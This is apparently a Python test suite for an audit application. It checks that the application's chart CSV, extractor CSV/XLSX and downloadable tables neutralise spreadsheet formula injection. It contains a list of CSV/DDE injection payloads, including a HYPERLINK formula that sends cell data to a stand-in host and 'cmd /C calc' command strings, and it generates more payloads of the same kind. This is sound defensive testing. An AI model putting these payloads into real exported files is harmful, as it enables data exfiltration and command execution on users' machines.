"""Every CSV and workbook the project writes neutralises formula payloads (= + - @ tab CR): the
chart CSV, the extractor's csv/xlsx, the Excel report, and tables offered for download."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit_app import privacy
from audit_app.cli import main

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", " =1+1", "\u00a0@SUM(A1)"]

formula_payloads = st.builds(lambda head, body: head + body,
                             st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", " =", "\n@", "\u00a0+"]),
                             st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
                                     max_size=30))


def cells_of_csv(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def live_formulas(cells) -> list[str]:
    return [c for c in cells if privacy.is_formula_like(c)]


def test_chart_csv_out_is_neutralised(tmp_path):
    src = tmp_path / "in.csv"
    rows = "".join(f'"{p.replace(chr(34), chr(34) * 2)} {i}",{i},10\n' for i, p in enumerate(PAYLOADS, 1))
    src.write_text("label,value,denominator\n" + rows, encoding="utf-8")
    out = tmp_path / "points.csv"
    assert main(["chart", str(src), "--chart", "p", "--out", str(out)]) == 0
    cells = cells_of_csv(out.read_text(encoding="utf-8"))
    assert live_formulas(cells) == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_extract_csv_and_xlsx_are_neutralised(tmp_path, capsys):
    src = tmp_path / "letters.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "text"])
        for i, p in enumerate(PAYLOADS):
            w.writerow([p, f"{p}\nOxycodone 5mg PO 4-hourly PRN, 7 days {p}"])
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"out{suffix}"
        assert main(["extract", str(src), "--out", str(out), "--id-column", "id"]) == 0
        if suffix == ".csv":
            cells = cells_of_csv(out.read_text(encoding="utf-8"))
        else:
            wb = openpyxl.load_workbook(out)
            assert not any(c.data_type == "f" for ws in wb for r in ws.iter_rows() for c in r)
            cells = [c.value for ws in wb for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
        assert live_formulas(cells) == [], suffix
        assert any(c.startswith("'=HYPERLINK") for c in cells), suffix


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(formula_payloads, min_size=1, max_size=6))
def test_any_payload_in_a_downloadable_table_is_neutralised(payloads):
    frame = pd.DataFrame({payloads[0]: payloads, "n": range(len(payloads))})
    text = privacy.frame_to_csv(frame)
    assert live_formulas(cells_of_csv(text)) == []
    buf = io.StringIO()
    privacy.write_csv(buf, [["h"], *([p] for p in payloads)])
    assert live_formulas(cells_of_csv(buf.getvalue())) == []


def test_tables_the_pages_offer_for_download_are_neutralised(store):
    from audit_app import services

    access = services.single_user()
    t = store.create_trust("Trust F")
    rid = store.save_round(t.id, PAYLOADS[0], [
        {"record": {"letter_id": p, "comments": p},
         "standard_results": [{"standard_id": "OD-01", "outcome": "met", "reason": p,
                               "evidence": [{"source": "auditor", "field": "x", "value": p, "note": p}]}]}
        for p in PAYLOADS[1:]], source_file="=cmd|' /C calc'!A0.xlsx")
    scope = services.TrustScope.check(store, access, t.id)
    tables = [services.rounds_table(scope), services.letters_table(scope, rid)]
    tables += [services.letter_results_table(letter) for letter in store.letters(rid)]
    for table in tables:
        text = privacy.frame_to_csv(table.drop(columns=["id"], errors="ignore"))
        assert live_formulas(cells_of_csv(text)) == []
        assert live_formulas(cells_of_csv(table.to_csv(index=False, lineterminator="\r\n"))) == []
    assert services.delete_round(scope, rid, "test") is None  # purged at once: no note
